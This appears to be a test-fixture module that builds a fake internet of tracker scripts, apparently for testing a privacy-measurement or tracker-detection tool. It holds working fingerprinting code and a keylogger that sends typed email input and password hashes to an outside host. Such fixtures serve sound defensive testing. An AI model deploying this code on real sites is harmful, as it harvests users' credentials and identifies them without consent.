"""The fake internet's sites: a shop whose vendors' scripts behave at run time as real ones do."""

from __future__ import annotations

from tests.support.internet import Internet, pixel, script
from tests.support.site import Page, html

HOSTS = (
    "shop.test",
    "www.googletagmanager.com",
    "www.google-analytics.com",
    "www.facebook.com",
    "fp.metrics.test",
    "static.hotjar.com",
    "in.hotjar.com",
    "plain.test",
)
SHOP = "https://shop.test/"

SHOP_PAGE = """<!doctype html><html><head><title>Shop</title>
<script src="https://www.googletagmanager.com/gtm.js?id=GTM-TEST1"></script>
<script src="https://fp.metrics.test/fp.js"></script>
<script src="https://static.hotjar.com/keys.js"></script>
</head><body>
<form action="/subscribe" method="post"><input id="email" type="email" name="email">
<input type="password" name="pw"></form>
<a href="/privacy">Privacy policy</a>
</body></html>"""

# A tag manager: injects an analytics script and a pixel, neither named in the page.
GTM = """(function () {
  var s = document.createElement('script');
  s.src = 'https://www.google-analytics.com/analytics.js';
  document.head.appendChild(s);
  new Image().src = 'https://www.facebook.com/tr?id=1234&ev=PageView';
})();"""

# An analytics script: a first-party cookie written by a third-party script, storage, a beacon.
ANALYTICS = """document.cookie = '_ga=GA1.1.42.42; max-age=63072000; path=/; SameSite=Lax';
localStorage.setItem('_ga_session', 's1');
sessionStorage.setItem('_ga_hit', '1');
indexedDB.open('ga-store');
navigator.sendBeacon('https://www.google-analytics.com/g/collect?v=2&tid=G-TEST', 'en=page_view');"""

FONTS = ", ".join(f"'Font{index}'" for index in range(30))
# A fingerprinter: canvas with text, installed fonts, the GPU's name, an audio signal, a navigator sweep.
FINGERPRINTER = f"""(function () {{
  var c = document.createElement('canvas'); c.width = 200; c.height = 50;
  var x = c.getContext('2d'); x.textBaseline = 'top'; x.font = '14px Arial';
  x.fillText('Cwm fjordbank glyphs vext quiz', 2, 2); c.toDataURL();
  [{FONTS}].forEach(function (f) {{ x.font = '12px ' + f; x.measureText('mmmmmmmmmmlli'); }});
  var gl = document.createElement('canvas').getContext('webgl');
  if (gl) gl.getParameter(37446);
  var a = new OfflineAudioContext(1, 4410, 44100); var o = a.createOscillator();
  o.connect(a.destination); o.start(0); a.startRendering();
  var n = navigator;
  [n.userAgent, n.platform, n.language, n.languages, n.hardwareConcurrency, n.deviceMemory, n.plugins,
   n.mimeTypes, n.doNotTrack, n.maxTouchPoints, n.vendor, n.cookieEnabled, screen.width, screen.colorDepth];
}})();"""

# A key logger: what is typed leaves before any submit, base64 on each keystroke, hashed on leaving the field.
KEYS = """document.addEventListener('input', function (e) {
  if (e.target.type === 'email') {
    var body = JSON.stringify({f: e.target.name, v: btoa(e.target.value)});
    fetch('https://in.hotjar.com/k', {method: 'POST', body: body});
  }
});
document.addEventListener('focusout', async function (e) {
  if (e.target.type !== 'password') return;
  var d = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(e.target.value));
  var hex = Array.from(new Uint8Array(d)).map(function (b) { return b.toString(16).padStart(2, '0'); }).join('');
  new Image().src = 'https://in.hotjar.com/p?h=' + hex;
});"""


def build_sites(internet: Internet) -> None:
    internet.add(SHOP, html(SHOP_PAGE, ("Set-Cookie", "session=abc; Path=/; Secure; HttpOnly; SameSite=Lax")))
    internet.add("https://shop.test/favicon.ico", Page(204))
    internet.add("https://www.googletagmanager.com/gtm.js", script(GTM, ("Cache-Control", "public, max-age=3600")))
    internet.add("https://www.google-analytics.com/analytics.js", script(ANALYTICS))
    internet.add("https://www.google-analytics.com/g/collect", Page(204))
    internet.add(
        "https://www.facebook.com/tr",
        pixel(("Set-Cookie", "fr=x; Domain=.facebook.com; Path=/; Max-Age=7776000; Secure; SameSite=None")),
    )
    internet.add("https://fp.metrics.test/fp.js", script(FINGERPRINTER))
    internet.add("https://static.hotjar.com/keys.js", script(KEYS))
    internet.add("https://in.hotjar.com/k", Page(204))
    internet.add("https://in.hotjar.com/p", pixel())
    internet.add("http://plain.test/", html("<p>plain</p>"))
